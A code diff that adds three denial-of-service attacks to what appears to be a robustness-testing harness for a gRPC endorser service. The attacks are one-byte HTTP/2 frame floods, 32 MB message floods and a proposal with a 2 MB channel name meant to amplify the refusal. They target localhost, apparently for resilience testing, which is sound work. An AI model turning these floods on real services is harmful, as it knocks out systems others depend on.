@@ -22,6 +22,7 @@ from dataclasses import dataclass
 from pathlib import Path
 from typing import Self
 
+import grpc
 from hpack import Encoder
 from hyperframe.frame import (
     ContinuationFrame,
@@ -35,6 +36,9 @@ from hyperframe.frame import (
     SettingsFrame,
     WindowUpdateFrame,
 )
+
+from fastledger.protos.common.common_pb2 import ChannelHeader, Header
+from fastledger.protos.peer.proposal_pb2 import Proposal, SignedProposal
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 ENDORSER = "/protos.Endorser/ProcessProposal"
@@ -387,6 +391,50 @@ def _calls(content: bytes, path: str) -> Attack:
     return attack
 
 
+def one_byte_frames(target: Target, until: float) -> None:
+    """Send a large message in frames of one byte."""
+
+    def session(connection: Connection) -> None:
+        while time.monotonic() < until:
+            connection.send(connection.call(ENDORSER, announced(HUGE)))
+            batch = DataFrame(connection.last, b"x").serialize() * BATCH
+            for _ in range(500):
+                connection.send(batch)
+                connection.drop_received()
+
+    _again(target, until, session)
+
+
+def _asks(request: Callable[[], bytes]) -> Attack:
+    """Ask one thing after the other, as a client of gRPC does."""
+
+    def attack(target: Target, until: float) -> None:
+        options = [("grpc.max_send_message_length", -1)]
+        address = f"localhost:{target.port}"
+        content = request()
+        with (
+            grpc.insecure_channel(address, options)
+            if target.roots is None
+            else grpc.secure_channel(
+                address, grpc.ssl_channel_credentials(target.roots.read_bytes()), options
+            )
+        ) as channel:
+            ask = channel.unary_unary(ENDORSER)
+            while (left := until - time.monotonic()) > 0:
+                with contextlib.suppress(grpc.RpcError):
+                    ask(content, timeout=left)
+
+    return attack
+
+
+def long_names() -> bytes:
+    """A proposal for a channel whose name has 2 MB, which a refusal would repeat."""
+    channel = ChannelHeader(type=3, channel_id="a" * (2 << 20), tx_id="b" * (1 << 20))
+    header = Header(channel_header=channel.SerializeToString())
+    proposal = Proposal(header=header.SerializeToString()).SerializeToString()
+    return SignedProposal(proposal_bytes=proposal, signature=b"none").SerializeToString()
+
+
 ATTACKS: dict[str, Attack] = {
     "unfinished_messages": unfinished_messages,
     "filled_windows": filled_windows,
@@ -411,6 +459,9 @@ ATTACKS: dict[str, Attack] = {
     "unknown_methods": _calls(b"", "/nobody.Knows/This"),
     "calls_without_message": _calls(b"", ENDORSER),
     "junk_messages": _calls(framed(b"\xff" * 200), ENDORSER),
+    "one_byte_frames": one_byte_frames,
+    "large_messages": _asks(lambda: b"\xff" * (32 << 20)),
+    "long_names": _asks(long_names),
 }
 
 
